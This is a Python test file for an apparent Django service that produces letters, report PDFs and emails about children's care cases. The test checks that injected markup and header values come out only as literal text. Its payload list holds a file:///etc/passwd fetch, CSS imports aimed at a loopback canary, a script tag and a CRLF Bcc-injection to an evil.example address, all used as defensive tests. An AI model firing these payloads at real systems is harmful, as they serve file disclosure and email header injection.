"""Injection into letters, report PDFs and emails.

Each payload goes into every free-text field that reaches a PDF or an email: the child's names,
the LA's, provider's and team's names and addresses, the AD's and director's names and titles,
the SPOC message, the acknowledgement note, the advice, the 'not provided' detail, the draft plan
sections, the DCO's response and the head of service's delay detail. Then the real services and
the real sweep send every email and render every letter, while a canary HTTP server on loopback
counts any request WeasyPrint (or anything else) makes to it, and the letter fetcher is wrapped to
count every URL asked for outside the letter assets.
"""

import datetime
import email
import io
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from advice.models import DelayReason, KnownStatus, NotProvidedReason
from advice.services import (
    TeamAnswer,
    advice_acknowledge,
    advice_not_provided,
    advice_request_send,
    advice_return,
    draft_plan_record,
)
from assessments.models import CaseStatus
from ehc.models import LocalAuthoritySettings, OutboundEmail, Role, Service
from ehc.outbox import email_send
from escalation import letters
from escalation.models import Escalation, EscalationStage, Letter
from escalation.services import Outcome, escalation_response_record, head_of_service_outcome_record
from reports import pdf as report_pdf
from tests.escalation.conftest import make_request, sweep
from tests.factories import (
    CaseFactory,
    IcbFactory,
    LocalAuthorityFactory,
    ProviderFactory,
    TeamFactory,
    UserFactory,
    verified_login,
)

from . import figures

D = datetime.date
CHILD_FIRST = "Zorbachild"
CHILD_LAST = "Quillbyname"
HEALTH = "HEALTHDETAIL"
FIELDS = [
    "child first name",
    "child last name",
    "LA name",
    "LA address",
    "AD name",
    "AD title",
    "provider name",
    "provider address",
    "director name",
    "director title",
    "team name",
    "SPOC message",
    "acknowledgement note",
    "advice text",
    "not provided detail",
    "not provided decided by",
    "draft plan sections",
    "DCO response",
    "delay detail",
    "head of service name",
]
MARKUP = ("<img", "<link", "<style", "<script")


def payloads(port):
    return [
        '<img src="file:///etc/passwd">',
        '<link rel=attachment href="file:///etc/passwd">',
        f"<style>@import url(http://127.0.0.1:{port}/x)</style>",
        f"url(http://127.0.0.1:{port}/y)",
        "<script>alert(1)</script>",
        "Eve\r\nBcc: x@evil.example",
    ]


class Canary:
    """A loopback HTTP server that counts every request made to it."""

    def __init__(self):
        self.hits = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                canary.hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def _world(n, payload):
    icb = IcbFactory(name=f"ICB injection {n}", short_name=f"ICB-I{n}")
    la = LocalAuthorityFactory(
        name=f"{payload} Council {n}", short_name=f"LAI{n}", icb=icb, address=f"{payload}\nTown Hall"
    )
    LocalAuthoritySettings.objects.filter(local_authority=la).update(
        ad_education_name=payload, ad_education_title=payload
    )
    provider = ProviderFactory(
        name=f"{payload} Provider {n}",
        short_name=f"PI{n}",
        spoc_email=f"spoc@provider-i{n}.example",
        address=f"{payload}\nHealth Centre",
        director_name=payload,
        director_title=payload,
        director_email=f"director@provider-i{n}.example",
    )
    provider.served_las.add(la)
    slt = TeamFactory(provider=provider, name=f"{payload} SLT {n}", service=Service.SLT)
    ot = TeamFactory(provider=provider, name=f"{payload} OT {n}", service=Service.OT)
    return SimpleNamespace(
        icb=icb,
        la=la,
        provider=provider,
        slt=slt,
        ot=ot,
        case_officer=UserFactory(username=f"officer-i{n}", organisation=la, roles=[Role.CASE_OFFICER]),
        spoc=UserFactory(username=f"spoc-i{n}", organisation=provider, roles=[Role.SPOC]),
        practitioner=UserFactory(username=f"slt-i{n}", organisation=provider, roles=[Role.PRACTITIONER], teams=[slt]),
        head_of_service=UserFactory(
            username=f"hos-i{n}",
            organisation=provider,
            roles=[Role.HEAD_OF_SERVICE],
            teams=[slt, ot],
            first_name=payload,
        ),
        dco=UserFactory(username=f"dco-i{n}", organisation=icb, roles=[Role.DCO]),
    )


def _child(world, payload, **kwargs):
    return CaseFactory(
        local_authority=world.la,
        case_officer=world.case_officer,
        status=CaseStatus.ASSESSING,
        decided_to_assess=True,
        received_on=D(2026, 9, 1),
        decision_on=D(2026, 9, 10),
        first_name=f"{payload} {CHILD_FIRST}",
        last_name=f"{CHILD_LAST} {payload}",
        **kwargs,
    )


def _advice_flow(world, payload, today):
    """Requested (with the SPOC message), acknowledged, returned, not provided, draft plan shared."""
    case = _child(world, payload)
    request = advice_request_send(
        case=case,
        provider=world.provider,
        services_named=[Service.SLT, Service.OT],
        user=world.case_officer,
        message=payload,
    )
    advice_acknowledge(
        advice_request=request,
        user=world.spoc,
        answers=[TeamAnswer(team=team, known_status=KnownStatus.KNOWN_OPEN) for team in (world.slt, world.ot)],
        note=payload,
    )
    items = {item.team_id: item for item in request.items.all()}
    advice_return(
        item=items[world.slt.pk],
        user=world.practitioner,
        returned_on=today,
        content={
            "description_of_needs": f"{HEALTH} {payload}",
            "provision_required": f"{HEALTH} {payload}",
            "outcomes": f"{HEALTH} {payload}",
        },
    )
    advice_not_provided(
        item=items[world.ot.pk],
        user=world.spoc,
        reason=NotProvidedReason.choices[0][0],
        detail=f"{HEALTH} {payload}",
        decided_by=payload,
        decided_on=today,
    )
    draft_plan_record(case=case, user=world.case_officer, sent_on=today, section_c=payload, section_g=payload)


def _normalised(text):
    # Without any white space: a long name wraps, and the line break shows in the extracted text.
    return "".join(text.split())


@pytest.mark.django_db
def test_payloads_reach_letters_reports_and_emails_only_as_text(monkeypatch, settings):
    settings.DEFAULT_FROM_EMAIL = "ehc@service.example"
    asked = []  # every URL WeasyPrint asked for while rendering a letter or report
    outside = []
    make_fetcher = letters._weasyprint_fetcher
    allowed_prefix = letters.ASSETS_DIR.as_uri() + "/"

    def counting_fetcher(images=None):
        real = make_fetcher(images)
        original = real.fetch

        def fetch(url, headers=None):
            asked.append(url)
            if not url.startswith(allowed_prefix):
                outside.append(url)
            return original(url, headers)

        real.fetch = fetch
        return real

    monkeypatch.setattr(letters, "_weasyprint_fetcher", counting_fetcher)
    refuse = report_pdf.RefusingURLFetcher.fetch

    def counting_refuse(self, url, headers=None):
        asked.append(url)
        outside.append(url)
        return refuse(self, url, headers)

    monkeypatch.setattr(report_pdf.RefusingURLFetcher, "fetch", counting_refuse)

    problems = []
    today = timezone.localdate()
    with Canary() as canary:
        hostile = payloads(canary.port)
        worlds = [_world(n, payload) for n, payload in enumerate(hostile)]
        escalated = {}
        for world, payload in zip(worlds, hostile, strict=True):
            _advice_flow(world, payload, today)
            escalated[world.la.pk] = make_request(
                world, notified_on=D(2026, 11, 20), teams=[world.slt], case=_child(world, payload)
            )
        # Chase, escalation 1 with its letter, escalation 2, then a Monday's digest.
        sweep(D(2027, 1, 4))
        sweep(D(2027, 1, 15))
        for world, payload in zip(worlds, hostile, strict=True):
            escalation = Escalation.objects.get(request=escalated[world.la.pk], stage=EscalationStage.ESCALATION_1)
            escalation_response_record(escalation=escalation, user=world.dco, response=payload)
        sweep(D(2027, 1, 29))
        for world, payload in zip(worlds, hostile, strict=True):
            item = escalated[world.la.pk].items.get()
            head_of_service_outcome_record(
                item=item,
                user=world.head_of_service,
                outcome=Outcome.PROMISED,
                promised_on=D(2027, 2, 26),
                delay_reason=DelayReason.CAPACITY,
                delay_detail=payload,
            )
        sweep(D(2027, 2, 1), hour=10)

        # Every queued email, sent as the worker would.
        mail.outbox.clear()
        for email_id in OutboundEmail.objects.order_by("pk").values_list("pk", flat=True):
            email_send(email_id=email_id)
        kinds = set(OutboundEmail.objects.values_list("kind", flat=True))
        for wanted in (
            "advice_requested",
            "acknowledged",
            "advice_returned",
            "draft_shared",
            "chase",
            "escalation_1",
            "escalation_2",
            "digest",
        ):
            if wanted not in kinds:
                problems.append(f"no {wanted} email was queued (kinds: {sorted(kinds)})")
        if len(mail.outbox) < len(worlds) * 6:
            problems.append(f"only {len(mail.outbox)} emails were sent")

        for message in mail.outbox:
            where = f"email {message.subject[:60]!r}"
            if "\r" in message.subject or "\n" in message.subject:
                problems.append(f"{where}: the subject has a line break")
            parsed = email.message_from_bytes(message.message().as_bytes())
            if parsed.get_all("Bcc") or message.bcc:
                problems.append(f"{where}: a Bcc")
            recipients = message.recipients()
            if any("evil" in address or not address.endswith(".example") for address in recipients):
                problems.append(f"{where}: unexpected recipients {recipients}")
            for header, value in parsed.items():
                if "evil" in value and header.lower() not in ("subject",):
                    problems.append(f"{where}: payload in the {header} header")
            bodies = [message.body] + [content for content, kind in getattr(message, "alternatives", [])]
            text = message.subject + "\n" + "\n".join(bodies)
            for secret in (CHILD_FIRST, CHILD_LAST, HEALTH):
                if secret in text:
                    problems.append(f"{where}: contains {secret} (a child's name or health detail)")
            for content, kind in getattr(message, "alternatives", []):
                if kind == "text/html" and any(markup in content for markup in MARKUP):
                    problems.append(f"{where}: unescaped markup in the HTML body")

        # Every letter, rendered through the wrapped fetcher; the payload prints as literal text.
        rendered = 0
        for letter in Letter.objects.select_related(
            "escalation__request__case", "escalation__request__provider", "escalation__request__local_authority"
        ):
            letter = letters.letter_render(letter_id=letter.pk)
            rendered += 1
            text = _normalised(PdfReader(io.BytesIO(bytes(letter.pdf))).pages[0].extract_text())
            request = letter.escalation.request
            printed = {
                "child's name": request.case.child.first_name,
                "director's name": request.provider.director_name,
                "LA name": request.local_authority.name,
                "team name": request.items.get().team.name,
            }
            for what, value in printed.items():
                if _normalised(value) not in text:
                    problems.append(f"letter {letter.pk}: the {what} is not printed as literal text")
        if rendered < len(worlds):
            problems.append(f"only {rendered} letters were rendered")

        # The report PDFs, as a DCO downloads them.
        # Each report, for the payloads that name a URL; the audit report for every payload.
        reports = ("reports:audit", "reports:monthly", "reports:timeliness")
        for world, payload in zip(worlds, hostile, strict=True):
            client = verified_login(Client(), world.dco)
            for name in reports if "127.0.0.1" in payload else reports[:1]:
                response = client.get(reverse(name), {"format": "pdf"})
                if response.status_code != 200 or not response.content.startswith(b"%PDF-"):
                    problems.append(f"{name} as PDF: {response.status_code}")

    hits = len(canary.hits)
    figures.reports["injection"] = (
        f"injection: {len(hostile)} payloads x {len(FIELDS)} fields, fetches outside allowlist "
        f"{len(outside)}, canary hits {hits}"
    )
    assert not outside, outside
    assert hits == 0, canary.hits
    assert not problems, "\n".join(problems)
    assert re.search(r"file:///etc/passwd", "".join(hostile))  # the payloads were the hostile ones
